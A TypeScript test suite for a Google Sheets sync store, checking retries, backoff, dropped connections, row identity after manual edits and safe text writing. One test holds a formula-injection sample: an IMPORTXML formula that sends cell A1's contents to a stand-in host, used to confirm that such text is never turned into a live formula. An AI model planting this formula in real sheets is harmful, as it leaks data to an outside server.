/**
 * The Sheets store under the API's limits: constant request counts whatever the
 * number of rows, 2 MB bodies, 429/5xx retried with backoff, a failed write
 * leaving the sheet as it was, text never turned into formulas, rows found by
 * identity after officials insert rows.
 */
import { createServer, request as httpRequest } from 'node:http';
import type { AddressInfo } from 'node:net';
import { describe, expect, it } from 'vitest';
import { sheetsAuth } from '../../sync/sheets/auth';
import { sheetsApi } from '../../sync/sheets/client';
import { SheetsStore } from '../../sync/sheets/sheets-store';
import { columnLetter, TASKS_TAB } from '../../core/index';
import { sampleTables } from '../../sync/samples/sample-tables';
import { CchcError } from '../../sync/errors';
import { seedSheet, sheetIdOf, sheetWith, useSheetsEmulator } from './emulated-sheet';

const emulated = useSheetsEmulator();

describe('Sheets store limits', () => {
  it('a write Google applied before its answer was lost is not repeated on retry', async () => {
    const sheets = await emulated();
    const sample = (await sampleTables())['tasks']!;
    const id = await sheetWith(sheets, sample.slice(0, 3));
    const store = sheets.store(id);
    const read = await store.read();
    let lost = false;
    sheets.emu.injectFailures([
      {
        // Google commits the batch, then the response never arrives.
        match: (r) => {
          if (r.operation !== 'spreadsheets.batchUpdate' || lost) return false;
          lost = true;
          sheets.emu.batchUpdate(id, (r.body as { requests: Parameters<typeof sheets.emu.batchUpdate>[1] }).requests);
          return true;
        },
        status: 503,
        times: 1,
      },
    ]);
    const outcome = await store.write({ tasks: [...read['tasks']!.map((t) => ({ ...t, progress: 10 })), ...sample.slice(3, 5)] });
    expect(outcome.conflicts).toEqual([]);
    const after = (await store.read())['tasks']!;
    expect(after.map((t) => t['id'])).toEqual(sample.slice(0, 5).map((t) => t['id']));
    expect(after.slice(0, 3).map((t) => t['progress'])).toEqual([10, 10, 10]);
  });

  it('a retry writes to the row where the task now is, after an official moved it meanwhile', async () => {
    const sheets = await emulated();
    const sample = (await sampleTables())['tasks']!.slice(0, 3);
    const id = await sheetWith(sheets, sample);
    const store = sheets.store(id);
    const read = await store.read();
    const sheetId = sheetIdOf(sheets.emu, id, TASKS_TAB.name);
    let moved = false;
    sheets.emu.injectFailures([
      {
        match: (r) => {
          if (r.kind !== 'write' || moved) return false;
          moved = true;
          sheets.emu.batchUpdate(id, [
            { moveDimension: { source: { sheetId, dimension: 'ROWS', startIndex: 1, endIndex: 2 }, destinationIndex: 4 } },
          ]);
          return true;
        },
        status: 503,
        times: 1,
      },
    ]);
    const first = String(sample[0]!['id']);
    await store.write({ tasks: read['tasks']!.map((t) => (t['id'] === first ? { ...t, note: 'sửa tại máy' } : t)) });
    const after = (await store.read())['tasks']!;
    expect(after.map((t) => t['id'])).toEqual([sample[1]!['id'], sample[2]!['id'], first]);
    expect(after.map((t) => t['note'] || null)).toEqual([sample[1]!['note'] || null, sample[2]!['note'] || null, 'sửa tại máy']);
  });

  it('retries 429 and 503 with backoff, honouring Retry-After, then writes once', async () => {
    const sheets = await emulated();
    const sample = (await sampleTables())['tasks']!;
    const id = await sheetWith(sheets, sample.slice(0, 3));
    sheets.emu.injectFailures([
      { match: { operation: 'spreadsheets.get' }, status: 503, times: 1 },
      { match: { operation: 'spreadsheets.batchUpdate' }, status: 429, times: 2, retryAfterSeconds: 7 },
    ]);
    const store = sheets.store(id);
    await store.read();
    const outcome = await store.write({ tasks: sample.slice(0, 4) });
    expect(outcome.conflicts).toEqual([]);
    expect(sheets.slept[0]).toBeGreaterThanOrEqual(1000); // 2^0 s + jitter
    expect(sheets.slept[0]).toBeLessThan(2000);
    expect(sheets.slept.slice(1)).toEqual([7000, 7000]);
    const statuses = sheets.emu.requestLog.filter((r) => r.kind === 'write').map((r) => r.status);
    expect(statuses).toEqual([429, 429, 200]);
    expect((await store.read())['tasks']).toHaveLength(4);
  });

  it('retries a dropped connection (ECONNRESET) as the real client reports it', async () => {
    const sheets = await emulated();
    const id = seedSheet(sheets.emu, 'CCHC', { tasks: (await sampleTables())['tasks']!.slice(0, 2) });
    // A proxy in front of the emulator that hangs up on the first request, as a flaky network does.
    let dropped = 0;
    const target = new URL(sheets.emu.url);
    const proxy = createServer((req, res) => {
      if (dropped++ === 0) return req.socket.destroy();
      const upstream = httpRequest(
        { host: target.hostname, port: target.port, path: req.url, method: req.method, headers: req.headers },
        (up) => {
          res.writeHead(up.statusCode ?? 502, up.headers);
          up.pipe(res);
        },
      );
      req.pipe(upstream);
    });
    await new Promise<void>((resolve) => proxy.listen(0, '127.0.0.1', resolve));
    try {
      const env = { ...sheets.env, CCHC_SHEETS_API_URL: `http://127.0.0.1:${(proxy.address() as AddressInfo).port}` };
      const slept: number[] = [];
      const store = new SheetsStore(id, async () => sheetsApi(await sheetsAuth({ env }), env), {
        sleep: async (ms) => void slept.push(ms),
      });
      expect((await store.read())['tasks']).toHaveLength(2);
      expect(slept).toHaveLength(1);
      expect(sheets.emu.counts().reads).toBe(1);
    } finally {
      proxy.close();
    }
  });

  it('gives up after the last retry with a Vietnamese message, leaving the sheet exactly as it was', async () => {
    const sheets = await emulated();
    const sample = (await sampleTables())['tasks']!;
    const id = await sheetWith(sheets, sample.slice(0, 5));
    const before = structuredClone(sheets.emu.getSpreadsheet(id));
    sheets.emu.injectFailures([{ match: { operation: 'spreadsheets.batchUpdate' }, status: 500, times: 100 }]);
    const store = sheets.store(id);
    const tables = await store.read();
    const edited = tables['tasks']!.map((t) => ({ ...t, progress: 50 }));
    const error = await store.write({ tasks: [...edited, ...sample.slice(5, 9)] }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(CchcError);
    expect((error as CchcError).code).toBe('SHEETS_UNAVAILABLE');
    expect((error as CchcError).messageVi).toContain('Bảng tính không có dòng nào ghi dở');
    expect(sheets.slept.length).toBe(5);
    expect(sheets.emu.getSpreadsheet(id)).toEqual(before);
  });

  it('writes text as text: a title starting with "=" never becomes a formula', async () => {
    const sheets = await emulated();
    const sample = (await sampleTables())['tasks']!;
    const id = await sheetWith(sheets, []);
    const evil = { ...sample[0]!, title: '=IMPORTXML("http://x.example/?"&A1,"//a")', note: '+1+1' };
    await sheets.store(id).apply({ tasks: [evil] }, new Map());
    const formulas = sheets.emu.getValues(id, `'${TASKS_TAB.name}'!A2:Q2`, { valueRenderOption: 'FORMULA' })[0]!;
    expect(formulas).toContain('=IMPORTXML("http://x.example/?"&A1,"//a")');
    const cell = sheets.emu.getSpreadsheet(id).sheets.find((s) => s.properties.title === TASKS_TAB.name)!.rows[1]!;
    expect(cell.filter((c) => c?.userEnteredValue && 'formulaValue' in (c.userEnteredValue as object))).toEqual([]);
  });

  it('finds rows by id after officials insert and move rows, and by row metadata after an id cell is cleared (and fills it back)', async () => {
    const sheets = await emulated();
    const sample = (await sampleTables())['tasks']!.slice(0, 4);
    const id = await sheetWith(sheets, sample);
    const sheetId = sheetIdOf(sheets.emu, id, TASKS_TAB.name);
    sheets.emu.batchUpdate(id, [
      { insertDimension: { range: { sheetId, dimension: 'ROWS', startIndex: 1, endIndex: 3 } } },
      { moveDimension: { source: { sheetId, dimension: 'ROWS', startIndex: 6, endIndex: 7 }, destinationIndex: 3 } },
    ]);
    sheets.emu.setValues(id, `'${TASKS_TAB.name}'!A2`, [['Dòng cán bộ tự thêm']]);
    const store = sheets.store(id);
    const tables = await store.read();
    const lastId = String(sample[3]!['id']);
    const moved = tables['tasks']!.find((t) => t['id'] === lastId)!;
    expect(moved['_row']).toBe(4);
    // Clear the id cell of the moved task: its row metadata still says which task it is.
    sheets.emu.setValues(id, `'${TASKS_TAB.name}'!A4`, [['']]);
    await store.write({ tasks: sample.map((t) => (t['id'] === lastId ? { ...t, note: 'cập nhật' } : t)) });
    const note = TASKS_TAB.columns.findIndex((c) => c.key === 'note');
    const row = sheets.emu.getValues(id, `'${TASKS_TAB.name}'!A4:${columnLetter(note)}4`)[0]!;
    // The cleared id is filled back from the workbook: the row is found by its metadata, and stays the task.
    expect(row[0]).toBe(lastId);
    expect(row[note]).toBe('cập nhật');
    expect(sheets.emu.getValues(id, `'${TASKS_TAB.name}'!A2`)).toEqual([['Dòng cán bộ tự thêm']]);
  });
});

describe('Sheets store on a sheet an official set up by hand', () => {
  it("fills a tab with only a header row (grid of one row), in the official's column order, adding missing columns at the end", async () => {
    const sheets = await emulated();
    const id = sheets.emu.createSpreadsheet('CCHC', [{ title: TASKS_TAB.name, rowCount: 1, columnCount: 3 }]);
    sheets.emu.setValues(id, `'${TASKS_TAB.name}'!A1`, [['Nội dung nhiệm vụ', 'Ghi chú riêng', 'Mã nhiệm vụ']]);
    const sample = (await sampleTables())['tasks']!.slice(0, 3);
    await sheets.store(id).apply({ tasks: sample }, new Map());
    const grid = sheets.emu.getValues(id, `'${TASKS_TAB.name}'`) as string[][];
    expect(grid[0]!.slice(0, 4)).toEqual(['Nội dung nhiệm vụ', 'Ghi chú riêng', 'Mã nhiệm vụ', 'Kế hoạch']);
    expect(grid.slice(1).map((r) => [r[0], r[1] ?? '', r[2]])).toEqual(sample.map((t) => [t['title'], '', t['id']]));
    const back = (await sheets.store(id).read())['tasks']!;
    expect(back.map((t) => [t['id'], t['lead'], t['deadline']])).toEqual(sample.map((t) => [t['id'], t['lead'], t['deadline']]));
  });
});
